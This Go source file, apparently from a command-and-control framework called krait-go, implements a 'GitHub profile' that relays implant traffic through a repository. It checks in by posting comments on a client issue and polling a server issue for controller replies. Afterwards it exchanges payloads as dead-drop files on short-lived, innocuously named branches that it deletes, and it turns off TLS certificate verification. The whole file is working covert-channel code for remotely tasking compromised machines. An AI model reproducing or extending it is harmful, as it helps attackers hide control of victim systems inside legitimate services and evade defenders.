// SPDX-FileCopyrightText: 2026 The krait-go Authors
//
// SPDX-License-Identifier: GPL-3.0-or-later

package profile

import (
	"bytes"
	"crypto/rand"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"

	log "github.com/sirupsen/logrus"
)

// githubAPIBase is the default API endpoint, overridable through the Config
// for tests.
const githubAPIBase = "https://api.github.com"

// GitHubProfile is the relay-polling variant. The checkin leg posts comments
// to a client issue and polls a server issue for replies; ongoing traffic
// happens on ephemeral branches through file dead drops.
type GitHubProfile struct {
	config Config

	client  *http.Client
	apiBase string

	// lastSeen is the monotonic cursor over server comment ids; only
	// strictly newer comments are consumed, stale replies are never
	// consumed twice.
	lastSeen    int64
	cursorMutex sync.Mutex

	checkedIn bool
	connected bool
}

// NewGitHubProfile creates a GitHubProfile for the given Config.
func NewGitHubProfile(config Config) *GitHubProfile {
	apiBase := config.GitHub.APIBase
	if apiBase == "" {
		apiBase = githubAPIBase
	}

	return &GitHubProfile{
		config:  config,
		apiBase: apiBase,
	}
}

// Initialize verifies the repository is reachable with the configured token.
func (p *GitHubProfile) Initialize() bool {
	p.client = &http.Client{
		Timeout: httpTimeout,
		Transport: &http.Transport{
			TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
		},
	}

	_, status, err := p.request(http.MethodGet, p.repoPath(""), nil)
	if err != nil || status != http.StatusOK {
		log.WithError(err).WithFields(log.Fields{
			"repository": p.config.GitHub.Repository,
			"status":     status,
		}).Error("GitHub repository not reachable")
		return false
	}

	p.connected = true
	return true
}

func (p *GitHubProfile) repoPath(suffix string) string {
	return fmt.Sprintf("/repos/%s/%s%s",
		p.config.GitHub.Owner, p.config.GitHub.Repository, suffix)
}

// request performs one authenticated API call and returns body and status.
func (p *GitHubProfile) request(method, path string, payload interface{}) ([]byte, int, error) {
	var body io.Reader
	if payload != nil {
		raw, err := json.Marshal(payload)
		if err != nil {
			return nil, 0, err
		}
		body = bytes.NewReader(raw)
	}

	req, err := http.NewRequest(method, p.apiBase+path, body)
	if err != nil {
		return nil, 0, err
	}

	req.Header.Set("Authorization", "token "+p.config.GitHub.Token)
	req.Header.Set("Accept", "application/vnd.github+json")
	if p.config.UserAgent != "" {
		req.Header.Set("User-Agent", p.config.UserAgent)
	}

	resp, err := p.client.Do(req)
	if err != nil {
		return nil, 0, err
	}
	defer func() { _ = resp.Body.Close() }()

	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, resp.StatusCode, err
	}

	return raw, resp.StatusCode, nil
}

// Send routes the payload over the checkin leg until the first successful
// exchange, afterwards over ephemeral branches.
func (p *GitHubProfile) Send(payload string) (string, error) {
	if !p.connected {
		return "", ErrNoResponse
	}

	if !p.checkedIn {
		reply, err := p.checkin(payload)
		if err == nil {
			p.checkedIn = true
		}
		return reply, err
	}

	return p.exchange(payload)
}

type issueComment struct {
	ID   int64  `json:"id"`
	Body string `json:"body"`
}

// checkin posts the payload as a comment on the client issue and polls the
// server issue, consuming only the newest comment strictly newer than the
// cursor.
func (p *GitHubProfile) checkin(payload string) (string, error) {
	_, status, err := p.request(http.MethodPost,
		p.repoPath(fmt.Sprintf("/issues/%d/comments", p.config.GitHub.ClientIssue)),
		map[string]string{"body": payload})
	if err != nil || status != http.StatusCreated {
		log.WithError(err).WithField("status", status).Debug("GitHub checkin comment failed")
		return "", ErrNoResponse
	}

	for attempt := 0; attempt < p.config.GitHub.PollAttempts; attempt++ {
		time.Sleep(p.config.GitHub.PollInterval)

		if reply, ok := p.pollServerIssue(); ok {
			return reply, nil
		}
	}

	log.Debug("GitHub checkin polling exhausted")
	return "", ErrNoResponse
}

// pollServerIssue fetches the server issue's comments and returns the newest
// one behind the cursor, advancing it.
func (p *GitHubProfile) pollServerIssue() (string, bool) {
	raw, status, err := p.request(http.MethodGet,
		p.repoPath(fmt.Sprintf("/issues/%d/comments", p.config.GitHub.ServerIssue)), nil)
	if err != nil || status != http.StatusOK {
		return "", false
	}

	var comments []issueComment
	if err := json.Unmarshal(raw, &comments); err != nil {
		return "", false
	}

	p.cursorMutex.Lock()
	defer p.cursorMutex.Unlock()

	var newest *issueComment
	for i := range comments {
		if comments[i].ID > p.lastSeen && (newest == nil || comments[i].ID > newest.ID) {
			newest = &comments[i]
		}
	}
	if newest == nil {
		return "", false
	}

	p.lastSeen = newest.ID
	return newest.Body, true
}

// randRead is crypto/rand.Read, replaceable for tests.
var randRead = rand.Read

// exchange pushes the payload as a file on a fresh ephemeral branch, polls
// for the controller's response file and deletes the branch in every case.
func (p *GitHubProfile) exchange(payload string) (reply string, err error) {
	// A predictable branch name would collide between concurrent agents.
	suffix := make([]byte, 4)
	if _, err = randRead(suffix); err != nil {
		log.WithError(err).Debug("GitHub branch name generation failed")
		return "", ErrNoResponse
	}
	branch := "sync-" + hex.EncodeToString(suffix)

	// Cleanup must happen on the failure paths as well.
	defer p.deleteBranch(branch)

	if err = p.createBranch(branch); err != nil {
		log.WithError(err).Debug("GitHub branch creation failed")
		return "", ErrNoResponse
	}

	if err = p.putFile(branch, p.config.GitHub.RequestFile, payload); err != nil {
		log.WithError(err).Debug("GitHub request file upload failed")
		return "", ErrNoResponse
	}

	for attempt := 0; attempt < p.config.GitHub.PollAttempts; attempt++ {
		time.Sleep(p.config.GitHub.PollInterval)

		if content, ok := p.getFile(branch, p.config.GitHub.ResponseFile); ok {
			return content, nil
		}
	}

	log.Debug("GitHub exchange polling exhausted")
	return "", ErrNoResponse
}

type gitRef struct {
	Object struct {
		SHA string `json:"sha"`
	} `json:"object"`
}

func (p *GitHubProfile) createBranch(branch string) error {
	raw, status, err := p.request(http.MethodGet,
		p.repoPath("/git/refs/heads/"+p.config.GitHub.Branch), nil)
	if err != nil {
		return err
	}
	if status != http.StatusOK {
		return fmt.Errorf("base branch lookup returned %d", status)
	}

	var ref gitRef
	if err := json.Unmarshal(raw, &ref); err != nil {
		return err
	}

	_, status, err = p.request(http.MethodPost, p.repoPath("/git/refs"),
		map[string]string{
			"ref": "refs/heads/" + branch,
			"sha": ref.Object.SHA,
		})
	if err != nil {
		return err
	}
	if status != http.StatusCreated {
		return fmt.Errorf("branch creation returned %d", status)
	}

	return nil
}

func (p *GitHubProfile) deleteBranch(branch string) {
	_, status, err := p.request(http.MethodDelete,
		p.repoPath("/git/refs/heads/"+branch), nil)
	if err != nil || status >= http.StatusBadRequest {
		log.WithError(err).WithFields(log.Fields{
			"branch": branch,
			"status": status,
		}).Debug("GitHub branch deletion failed")
	}
}

func (p *GitHubProfile) putFile(branch, path, content string) error {
	_, status, err := p.request(http.MethodPut, p.repoPath("/contents/"+path),
		map[string]string{
			"message": "sync",
			"content": base64.StdEncoding.EncodeToString([]byte(content)),
			"branch":  branch,
		})
	if err != nil {
		return err
	}
	if status != http.StatusCreated && status != http.StatusOK {
		return fmt.Errorf("file upload returned %d", status)
	}

	return nil
}

func (p *GitHubProfile) getFile(branch, path string) (string, bool) {
	raw, status, err := p.request(http.MethodGet,
		p.repoPath("/contents/"+path+"?ref="+branch), nil)
	if err != nil || status != http.StatusOK {
		return "", false
	}

	var file struct {
		Content string `json:"content"`
	}
	if err := json.Unmarshal(raw, &file); err != nil {
		return "", false
	}

	// The API wraps base64 content in newlines.
	content, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(file.Content, "\n", ""))
	if err != nil {
		return "", false
	}

	return string(content), true
}

// IsConnected reports if Initialize reached the repository.
func (p *GitHubProfile) IsConnected() bool {
	return p.connected
}

// Name returns "github".
func (p *GitHubProfile) Name() string {
	return "github"
}
